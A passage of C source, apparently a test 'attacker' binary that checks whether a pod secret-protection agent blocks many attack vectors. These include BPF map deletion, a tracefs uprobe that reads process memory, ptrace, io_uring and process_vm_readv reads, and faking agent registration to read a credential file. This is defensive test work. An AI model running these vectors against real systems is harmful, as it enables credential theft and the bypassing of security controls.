	uint32_t key = (uint32_t)num(a[1]);
	int fd;

	memset(&attr, 0, sizeof(attr));
	attr.pathname = (unsigned long)a[0];
	fd = (int)sys_bpf(BPF_OBJ_GET, &attr);
	if (fd < 0)
		refused("BPF_OBJ_GET");
	memset(&op, 0, sizeof(op));
	op.op = 3; /* delete */
	op.map = 1; /* protected */
	memcpy(op.key, &key, sizeof(key));
	memset(&attr, 0, sizeof(attr));
	attr.test.prog_fd = (uint32_t)fd;
	attr.test.ctx_in = (unsigned long)&op;
	attr.test.ctx_size_in = sizeof(op);
	if (sys_bpf(BPF_PROG_TEST_RUN, &attr) < 0)
		refused("BPF_PROG_TEST_RUN");
	if (op.result) {
		errno = -op.result;
		refused("agent_op");
	}
	printf("deleted\n");
	return 0;
}

/* uprobe BINARY: define a uprobe through tracefs (whose fetch args would read the probed
 * process's memory), then remove it. */
static int v_uprobe(char **a)
{
	char def[512];
	int fd = open("/sys/kernel/tracing/uprobe_events", O_WRONLY | O_APPEND);

	if (fd < 0)
		refused("open uprobe_events");
	snprintf(def, sizeof(def), "p:cloudtaser_attack %s:0x0 +0(%%sp):string\n", a[0]);
	if (write(fd, def, strlen(def)) < 0)
		refused("write uprobe_events");
	snprintf(def, sizeof(def), "-:cloudtaser_attack\n");
	if (write(fd, def, strlen(def)) < 0)
		refused("remove the uprobe");
	printf("defined\n");
	return 0;
}

/* traceme PROGRAM ARGS...: run PROGRAM traced from its first instruction by a tracer that only
 * resumes it and never reads its memory (a tracer that predates the agent's registration);
 * exits with PROGRAM's status. */
static int v_traceme(char **a)
{
	int status, sig;
	pid_t child = fork();

	if (child == 0) {
		if (ptrace(PTRACE_TRACEME, 0, 0, 0))
			refused("PTRACE_TRACEME");
		execvp(a[0], a);
		_exit(127);
	}
	for (;;) {
		if (waitpid(child, &status, __WALL) < 0)
			refused("waitpid");
		if (WIFEXITED(status))
			return WEXITSTATUS(status);
		if (WIFSIGNALED(status))
			return 128 + WTERMSIG(status);
		sig = WSTOPSIG(status) == SIGTRAP ? 0 : WSTOPSIG(status);
		ptrace(PTRACE_CONT, child, 0, sig);
	}
}

/* register-read SOCKET PATH: register with the agent as a second wrapper of the pod would,
 * naming PATH as its credential, then read PATH. */
static int v_register_read(char **a)
{
	struct sockaddr_un addr = {.sun_family = AF_UNIX};
	char request[4600], reply[512];
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	ssize_t n;

	snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", a[0]);
	if (s < 0 || connect(s, (struct sockaddr *)&addr, sizeof(addr)))
		refused("connect to the agent");
	snprintf(request, sizeof(request), "{\"op\": \"register\", \"version\": 2, "
		 "\"exec_environ\": \"clean\", \"credentials\": [\"%s\"]}\n", a[1]);
	if (write(s, request, strlen(request)) < 0)
		refused("write to the agent");
	n = read(s, reply, sizeof(reply) - 1);
	if (n <= 0 || !strstr(reply, "\"ok\": true")) {
		errno = EPERM;
		refused("registration");
	}
	close(s);
	dump_fd(open_or_refused(a[1], O_RDONLY));
	return 0;
}

/* exec PROGRAM ARGS...: run another attacker (e.g. a Python one) with our capabilities. */
static int v_exec(char **a)
{
	execvp(a[0], a);
	refused("execvp");
	return 0;
}

struct vector {
	const char *name;
	int args;
	int (*run)(char **);
};

static int v_uring_plain(char **a) { return v_uring(a, "plain"); }
static int v_uring_fixed(char **a) { return v_uring(a, "fixed"); }
static int v_uring_splice(char **a) { return v_uring(a, "splice"); }

static const struct vector vectors[] = {
	{"read", 1, v_read},
	{"mem", 3, v_mem},
	{"map", 1, v_map},
	{"creat-mem", 2, v_creat_mem},
	{"handle", 1, v_handle},
	{"getfd-map", 2, v_getfd_map},
	{"shared-read", 1, v_shared_read},
	{"shared-pread", 3, v_shared_pread},
	{"shared-getfd-map", 2, v_shared_getfd_map},
	{"vm-read", 1, v_vm_read},
	{"vm-getfd-map", 2, v_vm_getfd_map},
	{"shm-race", 1, v_shm_race},
	{"in-flight", 1, v_in_flight},
	{"uring-read", 1, v_uring_plain},
	{"uring-fixed", 1, v_uring_fixed},
	{"uring-splice", 1, v_uring_splice},
	{"uring-linked", 1, v_uring_linked},
	{"ptrace", 2, v_ptrace},
	{"vm-readv", 3, v_vm_readv},
	{"perf", 1, v_perf},
	{"madvise", 3, v_madvise},
	{"bpf-load", 0, v_bpf_load},
	{"map-delete", 2, v_map_delete},
	{"agent-op", 2, v_agent_op},
	{"uprobe", 1, v_uprobe},
	{"ia32-read", 1, v_ia32_read},
	{"ia32-mem", 3, v_ia32_mem},
	{"ia32-getfd-map", 2, v_ia32_getfd_map},
	{"ia32-ptrace", 2, v_ia32_ptrace},
	{"register-read", 2, v_register_read},
	{"traceme", 1, v_traceme},
	{"exec", 1, v_exec},
};

int main(int argc, char **argv)
{
	int in_pod = 0, with_ptrace = 0, with_seccomp = 0, i = 1;

	for (; i < argc && !strncmp(argv[i], "--", 2); i++) {
		if (!strcmp(argv[i], "--in-pod"))
			in_pod = 1;
		else if (!strcmp(argv[i], "--ptrace"))
			with_ptrace = 1;
		else if (!strcmp(argv[i], "--seccomp"))
			with_seccomp = 1;
		else
			break;
	}
	if (in_pod)
		become_pod(with_ptrace);
	if (with_seccomp)
		pod_seccomp();
	for (size_t v = 0; i < argc && v < sizeof(vectors) / sizeof(vectors[0]); v++)
		if (!strcmp(argv[i], vectors[v].name) && argc - i - 1 >= vectors[v].args)
			return vectors[v].run(argv + i + 1);
	fprintf(stderr, "usage: attacker [--in-pod [--ptrace] [--seccomp]] VECTOR ARGS...\n");
	return 2;
}
